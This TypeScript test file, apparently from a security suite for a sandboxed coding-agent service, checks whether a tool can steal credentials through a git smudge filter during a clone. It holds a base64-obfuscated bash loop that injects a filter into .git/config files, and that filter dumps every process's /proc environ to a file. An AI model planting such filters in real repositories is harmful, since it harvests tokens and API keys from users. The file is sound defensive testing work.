import { until } from '../../support/until.js';
import { LLM_KEY } from '../../system/journeys/support/journey-world.js';
import { type Attack, onOneMachine, held } from '../attack.js';
import type { HostileWorld } from '../support/hostile-world.js';

const REPOSITORY = 'octo/app';
/** As git's configuration has it: a `;` and quotes stand in quotes. */
const FILTER = String.raw`[filter "trap"]
	smudge = "cat /proc/[0-9]*/environ >> \"$HOME/trap\" 2> /dev/null; cat"`;
/**
 * Whatever repository appears gets a filter that shows what it is run with. It is appended as often as it is missing:
 * `git config` would lock the file, and a clone that finds it locked fails before any filter runs.
 */
const SET_FILTERS = `
shopt -s dotglob globstar nullglob
filter=$(printf %s ${Buffer.from(FILTER).toString('base64')} | base64 -d)
cd "$HOME/.."
while :; do
  for config in workspace/**/.git/config project/**/.git/config; do
    [[ $(< "$config") == *trap* ]] || printf '%s\\n' "$filter" >> "$config"
  done
done
`;

export const filtersOfClone: Attack = {
  name: 'filters-of-clone',
  finding: 4,
  what: 'A tool of Bob configures a filter in a repository that is being cloned; the filter looks for keys and the git token.',
  expected: onOneMachine(held('files are checked out without credentials, where and as tools run')),
  run: async (world) =>
    world.apart({ environment: { AGENT_EXPOSE_GIT_TOKENS: 'false' } }, async (apart) => attack(apart)),
};

async function attack(world: HostileWorld): Promise<{ held: boolean; seen: string }> {
  const { bob, git, hub } = world;
  await world.giveToken(bob);
  await git.commit(REPOSITORY, 'main', { '.gitattributes': '* filter=trap\n', 'a.txt': 'a\n' });
  const program = Buffer.from(SET_FILTERS).toString('base64');
  const setting = await bob.inBackground(`bash -c "$(printf %s ${program} | base64 -d)"`);
  git.gate.close();
  try {
    const task = await bob.client.start({
      sandbox_id: bob.sandboxId,
      selected_repository: REPOSITORY,
      git_provider: 'github',
    });
    await until(() => git.gate.waiting > 0);
    // The tool has looked for new repositories at least once by now.
    await bob.sh('true');
    git.gate.open();
    const { id } = await bob.client.ready(task);
    const trap = (await bob.sh('cat "$HOME/trap" 2> /dev/null | tr "\\\\0" "\\\\n"')).output;
    const found = [hub.token, LLM_KEY, await bob.sessionKey()].filter((secret) => trap.includes(secret));
    return {
      held: found.length === 0,
      seen: `the clone of ${id.slice(0, 8)} is there; the filter saw ${trap.length} characters and ${found.length} secrets`,
    };
  } finally {
    git.gate.open();
    await setting.stop();
  }
}
